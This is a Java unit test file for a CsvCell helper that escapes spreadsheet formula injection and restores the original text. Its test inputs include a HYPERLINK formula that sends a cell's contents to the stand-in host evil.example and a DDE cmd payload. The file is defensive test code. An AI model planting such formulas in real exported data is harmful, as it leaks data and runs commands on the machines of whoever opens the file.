package io.tsutawaru.text;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class CsvCellTests {

	@Test
	void cellsASpreadsheetWouldEvaluateAreQuoted() {
		assertThat(CsvCell.neutralised("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"))
			.isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
		assertThat(CsvCell.neutralised("+1+cmd|' /C calc'!A0")).startsWith("'+");
		assertThat(CsvCell.neutralised("-2+3")).isEqualTo("'-2+3");
		assertThat(CsvCell.neutralised("@SUM(1)")).isEqualTo("'@SUM(1)");
		assertThat(CsvCell.neutralised("\t=1")).isEqualTo("'\t=1");
		assertThat(CsvCell.neutralised("\r=1")).isEqualTo("'\r=1");
	}

	@Test
	void otherTextIsLeftAsItIs() {
		assertThat(CsvCell.neutralised("粗大ごみの出し方")).isEqualTo("粗大ごみの出し方");
		assertThat(CsvCell.neutralised("a=b")).isEqualTo("a=b");
		assertThat(CsvCell.neutralised("")).isEmpty();
		assertThat(CsvCell.neutralised(null)).isNull();
	}

	@Test
	void aNeutralisedCellReadsBackAsTheOriginalText() {
		for (String text : new String[] { "=1+2", "-持ち物", "@city", "'quoted", "普通", "", "'" }) {
			assertThat(CsvCell.restored(CsvCell.neutralised(text))).isEqualTo(text);
		}
	}

}
